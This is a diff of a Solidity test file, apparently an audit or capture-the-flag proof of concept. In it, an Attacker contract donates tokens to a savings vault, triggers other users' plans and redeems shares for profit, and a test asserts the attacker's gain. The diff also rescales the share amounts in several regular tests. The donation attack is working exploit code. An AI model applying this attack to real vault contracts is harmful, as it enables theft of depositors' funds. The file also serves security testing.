@@ -15,7 +15,7 @@ interface Vm {
 
 contract Dollar is ERC20 {
     constructor() ERC20("Dollar", "USD") {
-        _mint(msg.sender, 1_000_000e6);
+        _mint(msg.sender, 100_000_000e6);
     }
 }
 
@@ -28,7 +28,7 @@ contract Attacker {
         dollar.transfer(address(vault), dollar.balanceOf(address(this)));
         vault.runPlan(savers[0]);
         vault.runPlan(savers[1]);
-        vault.redeem(1);
+        vault.redeem(1_000);
     }
 }
 
@@ -49,7 +49,7 @@ contract Proof {
         _plan(ANNA);
         _plan(BELA);
         visitor = new Attacker();
-        dollar.transfer(address(visitor), 30_000e6);
+        dollar.transfer(address(visitor), 21_000_000e6);
     }
 
     function _plan(address who) private {
@@ -61,21 +61,21 @@ contract Proof {
     }
 
     function test_Regular() public {
-        require(vault.runPlan(ANNA) == 10_000e6 && vault.runPlan(BELA) == 10_000e6, "run");
+        require(vault.runPlan(ANNA) == 10_000e9 && vault.runPlan(BELA) == 10_000e9, "run");
         vm.prank(BELA);
         vault.endPlan();
         vm.warp(START + 75 days);
         vault.runPlan(ANNA);
-        require(vault.balanceOf(ANNA) == 20_000e6 && vault.held() == 30_000e6, "run again");
+        require(vault.balanceOf(ANNA) == 20_000e9 && vault.held() == 30_000e6, "run again");
         vm.startPrank(ANNA);
-        require(vault.redeem(5_000e6) == 5_000e6 && dollar.balanceOf(ANNA) == 35_000e6, "redeemed");
-        vault.transfer(BELA, 1_000e6);
-        vault.approve(BELA, 1_000e6);
+        require(vault.redeem(5_000e9) == 5_000e6 && dollar.balanceOf(ANNA) == 35_000e6, "redeemed");
+        vault.transfer(BELA, 1_000e9);
+        vault.approve(BELA, 1_000e9);
         vm.stopPrank();
         vm.startPrank(BELA);
-        vault.transferFrom(ANNA, BELA, 1_000e6);
-        require(vault.deposit(1_000e6, 1_000e6) == 1_000e6, "bought");
-        require(vault.redeem(13_000e6) == 13_000e6, "all of it");
+        vault.transferFrom(ANNA, BELA, 1_000e9);
+        require(vault.deposit(1_000e6, 1_000e9) == 1_000e9, "bought");
+        require(vault.redeem(13_000e9) == 13_000e6, "all of it");
         vm.stopPrank();
     }
 
@@ -92,8 +92,8 @@ contract Proof {
 
     function test_RefusesFewShares() public {
         dollar.approve(address(vault), 10);
-        vm.expectRevert(abi.encodeWithSelector(Pot.TooFewShares.selector, 10, 11));
-        vault.deposit(10, 11);
+        vm.expectRevert(abi.encodeWithSelector(Pot.TooFewShares.selector, 10_000, 10_001));
+        vault.deposit(10, 10_001);
     }
 
     function exploit() public {
@@ -102,7 +102,7 @@ contract Proof {
 
     function test_Exploit() public {
         exploit();
-        require(dollar.balanceOf(address(visitor)) >= 49_000e6, "no gain");
+        require(dollar.balanceOf(address(visitor)) >= 21_019_000e6, "no gain");
     }
 
     function target() public view returns (address) {
